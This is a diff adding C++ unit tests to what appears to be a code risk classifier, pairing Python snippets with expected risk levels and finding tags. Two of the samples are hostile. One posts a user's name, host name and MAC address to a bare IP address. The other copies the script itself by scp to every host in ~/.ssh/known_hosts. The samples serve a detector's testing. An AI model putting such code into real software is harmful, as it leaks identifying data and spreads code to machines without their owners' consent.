@@ -9,6 +9,7 @@ namespace {
 
 constexpr auto L = RiskLevel::low;
 constexpr auto M = RiskLevel::medium;
+constexpr auto H = RiskLevel::high;
 constexpr auto B = RiskLevel::blocked;
 
 // A function called from a loop runs in that loop: a spawner called from
@@ -178,6 +179,35 @@ TEST(Mechanisms, BrokenProtocolsAndShortKeys) {
       {"RSA 4096", L,
        "from cryptography.hazmat.primitives.asymmetric import rsa\nk = rsa.generate_private_key(public_exponent=65537, key_size=4096)\n"},
       {"a TLS client context", L, "import ssl\nctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+TEST(Mechanisms, IdentityByDestination) {
+  const Case cases[] = {
+      {"user, host and MAC to a bare address", B,
+       "import socket, getpass, uuid, requests\ninfo = {'u': getpass.getuser(), 'h': socket.gethostname(), 'm': uuid.getnode()}\n"
+       "requests.post('http://203.0.113.99/reg', json=info)\n",
+       "IDENTITY-BEACON"},
+      {"host name to a metrics endpoint the user configured", L,
+       "import os, socket, requests\nU = os.environ.get('METRICS_URL', 'https://m.example.com/p')\n"
+       "requests.post(U, json={'host': socket.gethostname()}, timeout=5)\n"},
+      {"host name to a fixed named service (external heuristic)", H,
+       "import socket, requests\nrequests.post('https://beacon.example.net/b', json={'host': socket.gethostname()})\n",
+       "HOST-IDENTITY-SENT"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+TEST(Mechanisms, CopyingItselfToOtherHostsIsAWorm) {
+  const Case cases[] = {
+      {"scp of __file__ to every known host", B,
+       "import os, subprocess\nfor h in open(os.path.expanduser('~/.ssh/known_hosts')).read().split():\n"
+       "    subprocess.run(['scp', __file__, h + ':/tmp/.u.py'])\n",
+       "SELF-PROPAGATION"},
+      {"arguments of its own command line in an API request", L,
+       "import sys, requests\nrequests.post('https://api.example.com/q', json={'q': ' '.join(sys.argv[1:])}, timeout=5)\n"},
+      {"scp of a named build artefact", M, "import subprocess\nsubprocess.run(['scp', 'dist/app.tar.gz', 'deploy@web1:/srv/'])\n"},
   };
   for (const auto& c : cases) check(c);
 }
